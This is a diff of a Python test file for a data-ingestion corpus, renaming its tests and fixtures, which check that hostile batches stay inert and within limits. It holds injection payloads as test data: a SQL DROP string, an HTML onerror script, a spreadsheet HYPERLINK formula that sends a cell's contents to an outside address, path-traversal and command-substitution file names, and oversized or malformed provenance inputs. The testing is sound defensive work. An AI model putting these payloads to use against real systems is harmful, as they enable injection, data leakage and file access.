@@ -1,4 +1,4 @@
-"""A hostile batch gains nothing: what it carries stays data, and what it demands stays below a stated limit."""
+"""A hostile batch does no harm: its content stays data, and its demands stay below the limits."""
 
 import gzip
 import json
@@ -9,31 +9,31 @@ import polars as pl
 import pytest
 
 from outcross.assets.corpus.ledger.ledger import read_version
-from outcross.assets.corpus.open_corpus import Anchored, anchor
+from outcross.assets.corpus.open_corpus import OpenCorpus, open_corpus
 from outcross.assets.export import FORMATS
 from outcross.assets.export.corpus import describe_version
 from outcross.resources.store import Store
 from outcross.resources.warehouse import query
-from tests.assets.corpus.test_ingest import AT, ROWS, corpus, quarantined, take
+from tests.assets.corpus.test_ingest import AT, ROWS, corpus_settings, quarantined, take
 
 SQL = 'x"; DROP VIEW ledger; --'
 FORMULA, HTML = '=HYPERLINK("http://192.0.2.1/?"&A1)', "<img src=x onerror=alert(1)>"
 
 
 @pytest.fixture
-def people(tmp_path: Path) -> Anchored:
-    return anchor(corpus(tmp_path, mode="observe"), Store(tmp_path / "data"), by="test", at=AT)
+def people(tmp_path: Path) -> OpenCorpus:
+    return open_corpus(corpus_settings(tmp_path, mode="observe"), Store(tmp_path / "data"), by="test", at=AT)
 
 
 def below(folder: Path) -> set[Path]:
-    """Every file below a folder, without the store's own."""
+    """List every file below a folder, without the store's own."""
     return {path for path in folder.rglob("*") if path.is_file() and "corpora" not in path.parts}
 
 
 @pytest.mark.parametrize(
     "name", ["..csv", "...%2f..%2fpasswd.csv", "a\nb.csv", "$(touch gone).csv", "'\"; --.csv", "\u202efdp.csv"]
 )
-def test_a_path_in_a_file_name_leads_nowhere(people: Anchored, tmp_path: Path, name: str) -> None:
+def test_a_path_in_a_file_name_is_not_followed(people: OpenCorpus, tmp_path: Path, name: str) -> None:
     path = tmp_path / name
     path.write_bytes(ROWS[4_000:4_010].write_csv().encode())
     before = below(tmp_path)
@@ -50,7 +50,7 @@ def test_a_path_in_a_file_name_leads_nowhere(people: Anchored, tmp_path: Path, n
 
 
 @pytest.mark.parametrize("name", ["../../gone", "/etc/passwd", SQL, HTML, FORMULA, "a" * 10_000, "\x00"])
-def test_a_column_that_nobody_asked_for_is_not_taken_in(people: Anchored, tmp_path: Path, name: str) -> None:
+def test_a_column_outside_the_schema_is_not_ingested(people: OpenCorpus, tmp_path: Path, name: str) -> None:
     rows = ROWS[4_000:4_400].unique(maintain_order=True).with_columns(pl.lit(1).alias(name))
     before = below(tmp_path)
     found = take(people, tmp_path / "batch.parquet", rows)
@@ -62,7 +62,7 @@ def test_a_column_that_nobody_asked_for_is_not_taken_in(people: Anchored, tmp_pa
 
 
 @pytest.mark.parametrize("text", [FORMULA, HTML, SQL])
-def test_what_a_cell_says_stays_text(people: Anchored, tmp_path: Path, text: str) -> None:
+def test_the_text_of_a_cell_stays_text(people: OpenCorpus, tmp_path: Path, text: str) -> None:
     rows = ROWS[4_000:4_400].unique(maintain_order=True)
     rows = rows.with_columns(pl.when(pl.int_range(pl.len()) == 7).then(pl.lit(text)).otherwise("race").alias("race"))
     path = tmp_path / "batch.csv"
@@ -76,25 +76,25 @@ def test_what_a_cell_says_stays_text(people: Anchored, tmp_path: Path, text: str
 
 
 @pytest.mark.parametrize(
-    ("limits", "told"),
+    ("limits", "reason"),
     [
         ({"bytes": 1_000}, "'limits: bytes'"),
         ({"rows": 100}, "'limits: rows'"),
         ({"text_bytes": 10_000}, "holds more than 10,000 bytes of text"),
     ],
 )
-def test_a_file_beyond_a_limit_is_refused_with_the_limit(tmp_path: Path, limits: dict[str, int], told: str) -> None:
-    people = anchor(corpus(tmp_path, limits=limits), Store(tmp_path / "data"), by="test", at=AT)
+def test_a_file_beyond_a_limit_is_refused_with_the_limit(tmp_path: Path, limits: dict[str, int], reason: str) -> None:
+    people = open_corpus(corpus_settings(tmp_path, limits=limits), Store(tmp_path / "data"), by="test", at=AT)
     path = tmp_path / "batch.csv"
     ROWS[4_000:5_000].write_csv(path)
     found = take(people, path)
     assert found.status == "refused"
-    assert told in found.reasons[0]
+    assert reason in found.reasons[0]
 
 
-def test_a_file_that_unpacks_to_a_thousand_times_its_size_is_refused_before_it_does(tmp_path: Path) -> None:
-    people = anchor(
-        corpus(tmp_path, limits={"text_bytes": 2**20, "unpacked_bytes": 2**20}),
+def test_a_file_that_unpacks_to_a_thousand_times_its_size_is_refused_before_unpacking(tmp_path: Path) -> None:
+    people = open_corpus(
+        corpus_settings(tmp_path, limits={"text_bytes": 2**20, "unpacked_bytes": 2**20}),
         Store(tmp_path / "data"),
         by="test",
         at=AT,
@@ -112,8 +112,8 @@ def test_a_file_that_unpacks_to_a_thousand_times_its_size_is_refused_before_it_d
 @pytest.mark.parametrize(
     "claims", [{"rows": 10**12}, {"bytes": 1}, {"sha256": "0" * 64}, {"rows": 400, "bytes": 2**63 - 1}]
 )
-def test_provenance_that_lies_about_its_file_holds_the_batch(
-    people: Anchored, tmp_path: Path, claims: dict[str, Any]
+def test_provenance_that_contradicts_its_file_holds_the_batch(
+    people: OpenCorpus, tmp_path: Path, claims: dict[str, Any]
 ) -> None:
     path = tmp_path / "batch.parquet"
     path.with_name("batch.parquet.provenance.json").write_text(json.dumps(claims))
@@ -126,8 +126,8 @@ def test_provenance_that_lies_about_its_file_holds_the_batch(
 @pytest.mark.parametrize(
     "content", [b"[" * 100_000, b'{"rows": 1e999}', b'{"origin": ["real"]}', b"\xff" * 40, b"{" + b" " * 2**21 + b"}"]
 )
-def test_provenance_that_cannot_be_read_refuses_the_file_and_is_kept(
-    people: Anchored, tmp_path: Path, content: bytes
+def test_a_file_with_unreadable_provenance_is_refused_and_recorded(
+    people: OpenCorpus, tmp_path: Path, content: bytes
 ) -> None:
     path = tmp_path / "batch.parquet"
     path.with_name("batch.parquet.provenance.json").write_bytes(content)
